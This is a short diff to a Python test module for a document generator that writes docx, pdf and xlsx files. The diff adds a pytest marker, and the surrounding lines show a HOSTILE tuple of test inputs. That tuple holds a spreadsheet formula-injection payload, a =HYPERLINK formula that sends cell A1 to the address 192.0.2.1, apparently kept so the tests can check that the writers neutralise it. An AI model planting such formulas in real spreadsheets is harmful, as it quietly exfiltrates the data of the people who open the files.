@@ -32,6 +32,8 @@ from antrag_gen.writers.docx import write as docx
 from antrag_gen.writers.pdf import write as pdf
 from antrag_gen.writers.xlsx import write as xlsx
 
+pytestmark = pytest.mark.auswahl(1)
+
 N = TypeVar("N", bound=Node)
 HOSTILE = (
     '=HYPERLINK("http://192.0.2.1/?"&A1;"Hier")',
